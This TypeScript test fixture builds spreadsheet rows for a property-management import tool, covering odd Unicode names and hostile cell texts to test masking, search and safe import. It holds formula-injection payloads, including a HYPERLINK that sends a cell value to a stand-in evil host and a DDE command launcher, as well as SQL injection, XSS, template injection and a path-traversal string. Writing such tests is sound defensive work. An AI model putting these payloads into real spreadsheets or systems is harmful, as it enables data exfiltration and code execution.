/** An estate whose every cell was written by an enemy or by bad luck: names that must come in, be found and stay masked, and texts that must stay text. */
import type { FlagReason, RejectReason } from '../../contract/import/lists.ts';
import { type FixtureCell, type FixtureSheet, area, cellsOf } from './fixture-workbooks.ts';
import { idNumberOf } from './people-drafts.ts';
import type { Planted } from './planted-people.ts';
import { IS_WINDOWS } from './platform.ts';

/** Somebody with an odd name: how it stands in the cell, what may be shown of it, and what staff type to find them. */
export interface HostileName {
  readonly what: string;
  readonly cell: string;
  readonly shown: string;
  readonly typed: readonly string[];
}

const DOTS = { '2022': '•', '30FB': '・', FF65: '･', '2027': '‧', FF0E: '．' } as const;

/** Masks by hand: the first character and stars, of each segment where there are segments; never more than a third of what is no name. */
export const HOSTILE_NAMES: readonly HostileName[] = [
  { what: 'two characters of extension B', cell: '𠮷𬭎', shown: '𠮷*', typed: ['𠮷', '𠮷𬭎'] },
  {
    what: 'fifty characters of extension B',
    cell: '𡃁'.repeat(50),
    shown: '𡃁**',
    typed: ['𡃁', '𡃁'.repeat(3)],
  },
  {
    what: 'fifty characters',
    cell: `韦${'欣'.repeat(49)}`,
    shown: '韦**',
    typed: ['韦欣欣', 'wxx', 'weixin'],
  },
  { what: 'fifty letters in one word', cell: `Zq${'y'.repeat(48)}`, shown: 'Z***', typed: ['zqyy', 'ZQ'] },
  ...Object.entries(DOTS).map(([code, dot]): HostileName => ({
    what: `an interpunct U+${code}`,
    cell: `热依汗${dot}卡德尔`,
    shown: '热**·卡**',
    typed: ['热依汗·卡', '热依汗卡', 'ryhkde', 'reyihan', '热依汗•卡'],
  })),
  {
    what: 'a spaced interpunct',
    cell: '木拉提 · 玉素甫',
    shown: '木**·玉**',
    typed: ['木拉提·玉', 'mltysf'],
  },
  { what: 'an emoji at the end', cell: '覃晓🏠', shown: '覃**', typed: ['覃晓', 'qx'] },
  { what: 'an emoji at the start', cell: '🐼蒙晨曦', shown: '🐼**', typed: ['蒙晨曦', '蒙晨', 'mcx'] },
  { what: 'a family of emoji', cell: '👨‍👩‍👧农立春', shown: '👨**', typed: ['农立春', 'nlc'] },
  { what: 'a right-to-left override', cell: '卢\u202e思琪\u202c', shown: '卢**', typed: ['卢思琪', 'lsq'] },
  {
    what: 'marks and isolates of direction',
    cell: '\u200f\u2067莫\u061c\u200e嘉\u2069慧',
    shown: '莫**',
    typed: ['莫嘉慧', 'mjh'],
  },
  { what: 'Arabic', cell: 'محمد علي', shown: 'م*** ع***', typed: ['محمد', 'عل'] },
  {
    what: 'zero-width characters',
    cell: '\ufeff罗\u200b永\u200c康\u200d\u2060',
    shown: '罗**',
    typed: ['罗永康', 'lyk'],
  },
  { what: 'blank letters', cell: '\u3164岑\u3164福\u115f荣', shown: '岑**', typed: ['岑福荣', 'cfr'] },
  { what: 'a variation selector', cell: '葛\u{e0100}城\ufe0f宇', shown: '葛**', typed: ['葛城宇', 'gcy'] },
  {
    what: 'tag characters',
    cell: '韦\u{e0041}\u{e007f}昊\u{e0001}天',
    shown: '韦**',
    typed: ['韦昊天', 'wht'],
  },
  { what: 'soft hyphens', cell: '蓝\u00ad东\u00ad昇', shown: '蓝**', typed: ['蓝东昇', 'lds'] },
  {
    what: 'accents as characters of their own',
    cell: 'Jose\u0301 Nin\u0303o',
    shown: 'J*** N***',
    typed: ['jose', 'José', 'jn', 'nino'],
  },
  { what: 'letters of another style', cell: '𝓙𝓸𝓱𝓷 𝓢𝓶𝓲𝓽𝓱', shown: '𝓙*** 𝓢***', typed: ['john', 'smith'] },
  {
    what: 'full-width letters',
    cell: 'ＢＯＢ\u3000ＲＯＳＳ',
    shown: 'B*** R***',
    typed: ['bob', 'ross', 'ＢＯＢ'],
  },
  { what: 'control characters', cell: '黄\u0001丽\u0007\u001b娜', shown: '黄**', typed: ['黄丽娜', 'hln'] },
  { what: 'a line end and a tab', cell: '潘\n玉\t兰', shown: '潘**', typed: ['潘玉兰', 'pyl'] },
  { what: 'a separator of lines', cell: '陆\u2028春\u2029燕\u0085', shown: '陆**', typed: ['陆春燕', 'lcy'] },
  { what: 'a lone surrogate', cell: '唐\ud842若\udfb7兰', shown: '唐**', typed: ['唐', 'trl'] },
  {
    what: 'a formula that leads away',
    cell: '=HYPERLINK("http://evil.invalid/"&A1,"甘棠")',
    shown: '=**',
    typed: ['甘棠', 'hyperlink'],
  },
  { what: 'a formula that starts a program', cell: "+cmd|'/C calc'!A0", shown: '+**', typed: ['cmd'] },
  { what: 'a formula by @', cell: '@SUM(甲乙)', shown: '@**', typed: ['sum', '甲乙'] },
  { what: 'a formula by -', cell: '-柏油-路', shown: '-**', typed: ['柏油'] },
  { what: 'SQL', cell: "Robert'); DROP TABLE person;--", shown: 'R**', typed: ['robert'] },
  { what: 'more SQL', cell: "钟' OR '1'='1", shown: '钟**', typed: ['钟'] },
  { what: 'a script', cell: '<script>window.planted=1</script>', shown: '<**', typed: ['script'] },
  {
    what: 'a picture that runs',
    cell: '<img src=x onerror="window.planted=1">',
    shown: '<**',
    typed: ['img'],
  },
  { what: 'an element round a name', cell: '<b id=planted>祝融</b>', shown: '<**', typed: ['祝融'] },
  { what: 'an entity', cell: '&lt;hr id=planted&gt;姜&#x200b;', shown: '&**', typed: ['姜'] },
  { what: 'braces of a template', cell: '{{constructor.constructor}}', shown: '{**', typed: ['constructor'] },
  { what: 'a call of a translation', cell: '$t(lock.who) 凌', shown: '$**', typed: ['凌'] },
  { what: 'a name of the language', cell: '__proto__', shown: '_**', typed: ['proto'] },
  { what: 'another name of the language', cell: 'toString', shown: 't***', typed: ['tostring'] },
  { what: 'a word for nothing in code', cell: 'NaN', shown: 'N***', typed: ['nan'] },
];

/** What stands in the fields of people whose name is plain. */
const HOSTILE_TEXTS: readonly string[] = [
  '=HYPERLINK("http://evil.invalid/","x")',
  "+cmd|'/C calc'!A0",
  '@SUM(1+1)',
  '<script>window.planted=1</script>',
  '<img src=x onerror="window.planted=1">',
  '"><svg onload=window.planted=1>',
  "x'); DELETE FROM person;--",
  '{{constructor.constructor("x")()}}',
  '${process.exit()}',
  '$t(lock.who) %s %n',
  'a\u202ecod.exe\u202c',
  '\u200f\u2067x\u2069',
  '🏠👨‍👩‍👧',
  '\u0001\u0007\u001b[31mred',
  'line\nline\r\nline',
  '\u2028\u2029',
  'x\ud800y',
  '\u3164',
  '../../etc/passwd',
  'https://evil.invalid/?q=1',
  `${'w'.repeat(300)}`,
  '𠮷'.repeat(50),
  '__proto__',
  'constructor',
  'null',
  '%',
  '_',
  "'",
  '"',
  '\\',
  ',,,',
  ';',
  '|',
  '-'.repeat(40),
  '*****',
  '🇨🇳',
  'é'.normalize('NFD'),
  '\ufffd\ufffe\uffff',
];

export interface HostileRow {
  readonly what: string;
  readonly cells: readonly FixtureCell[];
  /** Null for a row that comes in. */
  readonly reject: RejectReason | null;
  /** Why a cell of it was set aside; null where all of them were taken. */
  readonly flag: FlagReason | null;
  /** Sealed or masked values of the row with what may be shown of them. */
  readonly planted: readonly Planted[];
  readonly nameMask: string;
  /** What finds the person in the group of results of that name. */
  readonly typed: { readonly name: readonly string[]; readonly room: string; readonly phone: string };
}

const HOSTILE_HEADER = cellsOf(
  '楼号 单元 房间 楼层 房屋户型 房屋状态 业主名称 性别 手机号 身份证号 业主类型 车牌号 备注 微信 邮箱 家庭住址 紧急联系人',
);
type Column = (typeof HOSTILE_HEADER)[number];
const SURNAMES = [
  ...'谭覃邓曾彭蒋蔡余杜叶程苏魏吕丁任姚沈钟姜崔陆范汪廖石金贾夏付方邹熊白孟秦邱侯江尹薛闫雷史陶黎贺毛郝顾龚邵万钱戴严莫孔向常汤',
];
const GIVEN = [...'伟芳敏静强磊军洋勇艳杰娟涛明超霞平刚桂华'];

const phoneOf = (n: number): string => `1415${String(3_070_000 + n * 7919).slice(-7)}`;
const maskOfPhone = (phone: string): string => `${phone.slice(0, 3)}****${phone.slice(-4)}`;
const maskOfId = (id: string): string => `${id[0]}${'*'.repeat(16)}${id[17]}`;

/** A plain row with a phone, an ID number and a room of its own, in which some cells are hostile. */
function rowOf(
  n: number,
  what: string,
  cells: Partial<Record<Column, string>>,
  more: Partial<Pick<HostileRow, 'reject' | 'flag'>> & {
    readonly name?: HostileName;
    readonly room?: string;
  } = {},
): HostileRow {
  const phone = phoneOf(n);
  const id = idNumberOf(n);
  const plainName = `${SURNAMES[n % SURNAMES.length]!}${GIVEN[n % GIVEN.length]!}${GIVEN[(n * 7 + 3) % GIVEN.length]!}`;
  const room = String(5001 + n);
  const plain: Partial<Record<Column, string>> = {
    楼号: '97',
    单元: '3',
    房间: room,
    业主名称: plainName,
    性别: '女',
    手机号: phone,
    身份证号: id,
    业主类型: '业主',
  };
  return {
    what,
    cells: HOSTILE_HEADER.map((column) => ({ ...plain, ...cells })[column] ?? null),
    reject: more.reject ?? null,
    flag: more.flag ?? null,
    nameMask: more.name?.shown ?? `${plainName[0]!}**`,
    planted: [
      { value: phone, shown: maskOfPhone(phone) },
      { value: id, shown: maskOfId(id) },
    ],
    typed: {
      name: more.name?.typed ?? [plainName],
      room: more.room ?? `97-3-${room}`,
      phone: phone.slice(-4),
    },
  };
}

const NO_ROOM = { 楼号: '', 单元: '', 房间: '' };

/** A word that occurs nowhere else, hidden in a sealed text between hostile ones. */
const secretWord = (n: number): string =>
  `vq${[...String(n).padStart(3, '0')].map((digit) => 'ktzgwjxbfy'[Number(digit)]).join('')}wkqz`;

export function hostileRows(): readonly HostileRow[] {
  let n = 0;
  const names = HOSTILE_NAMES.map((name) =>
    rowOf((n += 1), `a name with ${name.what}`, { 业主名称: name.cell }, { name }),
  );
  const texts = HOSTILE_TEXTS.map((text) => {
    const hidden = secretWord((n += 1));
    const row = rowOf(
      n,
      `every free text as ${JSON.stringify(text.slice(0, 30))}`,
      {
        楼层: text,
        房屋户型: text,
        房屋状态: text,
        性别: text,
        业主类型: text,
        备注: `${text}${hidden}`,
        微信: `${text}${hidden}`,
        邮箱: `${text}${hidden}`,
        家庭住址: `${text}${hidden}`,
        紧急联系人: `${text}${hidden}`,
      },
      text.length > 80 ? { flag: 'value-too-long' } : {},
    );
    return { ...row, planted: [...row.planted, { value: hidden, shown: '' }] };
  });
  const rooms = HOSTILE_TEXTS.filter((text) => text.length < 100 && /[\p{L}\p{N}]/u.test(text)).map((text) =>
    rowOf(
      (n += 1),
      `a room and a plate as ${JSON.stringify(text.slice(0, 30))}`,
      { 楼号: text, 车牌号: text },
      { room: String(5001 + n) },
    ),
  );
  const script = '<script>window.planted=1</script>';
  const setAside = (
    [
      ['a name of 51 characters', { 业主名称: '韦'.repeat(51) }, 'name-not-valid'],
      ['a name of signs', { 业主名称: '-1+1' }, 'name-not-valid'],
      ['a name of invisible characters', { 业主名称: '\u202e\u200b\u3164\u2800' }, 'no-name'],
      ['a name that is a phone', { 业主名称: '=14112341234' }, 'name-not-valid'],
      ['a phone that is a formula', { 手机号: '=1+1' }, 'phone-not-valid'],
      ['a phone that is a script', { 手机号: script }, 'phone-not-valid'],
      ['an ID number that is SQL', { 身份证号: "x' OR 1=1" }, 'id-not-valid'],
      ['a room of invisible characters', { ...NO_ROOM, 房间: '\u200b\u202e' }, 'no-room'],
    ] as const
  ).map(([what, cells, flag]) => rowOf((n += 1), what, cells, { flag }));
  const rejects = (
    [
      ['no room beside a name that is a phone', { ...NO_ROOM, 业主名称: '=14112341234' }, 'no-name'],
      [
        'no room beside a phone that is a formula',
        { ...NO_ROOM, 手机号: '=1+1', 身份证号: "x' OR 1=1" },
        'no-room',
      ],
      ['no room beside a phone that is a script', { ...NO_ROOM, 手机号: script, 身份证号: '1' }, 'no-room'],
    ] as const
  ).map(([what, cells, reject]) => rowOf((n += 1), what, cells, { reject }));
  return [...names, ...texts, ...rooms, ...setAside, ...rejects];
}

/** Whether somebody comes in who is found again by name and phone: a cell too many costs nobody their row. */
export const isFound = ({ reject, flag }: HostileRow): boolean =>
  reject === null && (flag === null || flag === 'value-too-long');

/** Titles, a name for the sheet and a header of no field that are hostile too. The first row of data is row 4. */
export function hostileSheet(rows: readonly HostileRow[] = hostileRows()): FixtureSheet {
  const title = '<h1 id=planted>\u202eestate</h1>{{title}}';
  const extra = `=HYPERLINK("http://evil.invalid")\u202e<i id=planted>$t(lock.who){{header}}`;
  const width = HOSTILE_HEADER.length;
  return {
    name: '\u202e<b>业主{{x}}=1+1',
    merges: [area(0, 0, 0, width)],
    rows: [
      [title],
      [null],
      [...HOSTILE_HEADER, extra],
      ...rows.map(({ cells }, index) => [
        ...cells,
        HOSTILE_TEXTS[index % HOSTILE_TEXTS.length]!.slice(0, 40),
      ]),
    ],
  };
}

/** In files of text, which hold no half of a character. */
export function wellFormed(sheet: FixtureSheet): FixtureSheet {
  return {
    ...sheet,
    rows: sheet.rows.map((row) =>
      row.map((cell) => (typeof cell === 'string' ? cell.replace(/\p{Cs}/gu, '') : cell)),
    ),
  };
}

export const FIRST_HOSTILE_ROW = 4;
const ANY_NAME = '业主\u202excod.<img src=x onerror="window.planted=1">{{x}}$t(lock.who)\u200b';
/** As a file may be called: no slash and no NUL, and on Windows no angle bracket and no quote. */
export const HOSTILE_FILE_NAME = IS_WINDOWS ? ANY_NAME.replaceAll(/[<>"]/g, '') : ANY_NAME;
